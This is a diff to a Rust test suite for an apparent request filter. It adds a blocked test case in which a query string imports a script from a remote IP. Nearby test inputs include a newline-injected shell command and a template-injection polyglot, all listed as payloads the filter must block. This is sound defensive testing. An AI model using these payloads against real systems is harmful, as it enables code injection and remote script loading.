@@ -537,8 +537,8 @@ fn math_slashes_encoded_paths_and_identity_queries_block() {
 
 /// Edge side includes, spreadsheet formulas that run a program or fetch a
 /// URL, an XPath predicate closed into a union, a command on a line of its
-/// own before a separator, template scanners' polyglot and Thymeleaf's
-/// selection expressions block; prose about the same things passes.
+/// own before a separator, template scanners' polyglot, Thymeleaf's
+/// selection expressions and a module imported from another host block; prose about the same things passes.
 #[test]
 fn esi_formulas_xpath_unions_line_commands_and_templates_block() {
     for q in [
@@ -552,6 +552,7 @@ fn esi_formulas_xpath_unions_line_commands_and_templates_block() {
         "/s?q=1%0aid|",
         "/s?q=${{%3C%25[%25%27%22}}%25%5C.",
         "/s?q=*{7*7}",
+        "/s?q=import(%27//203.0.113.9/x.js%27)",
     ] {
         assert_eq!(get(q, None).action, Action::Block, "{q}");
     }
@@ -561,6 +562,7 @@ fn esi_formulas_xpath_unions_line_commands_and_templates_block() {
         "names ['a', 'b'] | sorted / grouped",
         "Dear team,\nid: 4471; ls: pending\nps: see you & thanks",
         "deploy with ${{ secrets.TOKEN }}, rated *{5} stars, @{user}",
+        "how to import ('./local.js') in a module",
     ] {
         assert_passes(&get(&search(s), None), s);
     }
